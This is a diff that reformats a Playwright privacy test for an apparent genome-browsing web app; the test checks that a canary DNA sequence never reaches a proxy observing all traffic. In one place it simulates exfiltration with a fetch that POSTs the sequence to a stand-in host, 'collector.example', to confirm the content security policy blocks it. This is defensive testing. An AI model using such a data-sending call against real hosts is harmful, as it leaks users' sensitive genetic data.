@@ -8,9 +8,18 @@ test.use({ serviceWorkers: 'allow' });
 /** Bases and a word that stand nowhere but in the test's genome. */
 const CANARY = 'ACGTTGCAAGGCCTTATTCGGATCCGATATTCCGGAACTG';
 const WORD = 'quetzalcoatlus';
-const traces = [CANARY, CANARY.toLowerCase(), WORD, Buffer.from(CANARY).toString('base64').slice(0, 48), Buffer.from(CANARY).toString('hex')];
+const traces = [
+  CANARY,
+  CANARY.toLowerCase(),
+  WORD,
+  Buffer.from(CANARY).toString('base64').slice(0, 48),
+  Buffer.from(CANARY).toString('hex'),
+];
 
-/** A proxy between the browser and everything, the studio's own host too: keeps all it is told, and passes on only what is for that host. */
+/**
+ * A proxy between the browser and everything, the studio's own host too: keeps all it is told, and passes on only what
+ * is for that host.
+ */
 class Sink {
   private readonly heard: Buffer[] = [];
   private readonly server: Server;
@@ -78,14 +87,22 @@ test('not one base and not one word of a genome reaches a proxy that sees everyt
   for (const trace of traces) expect(during).not.toContain(trace);
 
   // What tries to tell is refused before it is a request.
-  const tell = (bases: string) => fetch(`http://collector.example/?bases=${bases}`, { mode: 'no-cors', method: 'POST', body: bases }).catch(() => undefined);
+  const tell = (bases: string) =>
+    fetch(`http://collector.example/?bases=${bases}`, { mode: 'no-cors', method: 'POST', body: bases }).catch(
+      () => undefined,
+    );
   await page.evaluate(tell, CANARY);
   expect(sink.everything()).not.toContain(CANARY);
   expect(studio.complaints.filter((complaint) => !complaint.includes('collector.example'))).toEqual([]);
   await context.close();
 
   // Positive control: the same proxy hears the same words where no policy holds them back.
-  const unguarded = await browser.newContext({ proxy: { server, bypass: '<-loopback>' }, baseURL, bypassCSP: true, serviceWorkers: 'block' });
+  const unguarded = await browser.newContext({
+    proxy: { server, bypass: '<-loopback>' },
+    baseURL,
+    bypassCSP: true,
+    serviceWorkers: 'block',
+  });
   const elsewhere = await unguarded.newPage();
   await elsewhere.goto('/');
   await elsewhere.evaluate(tell, CANARY);
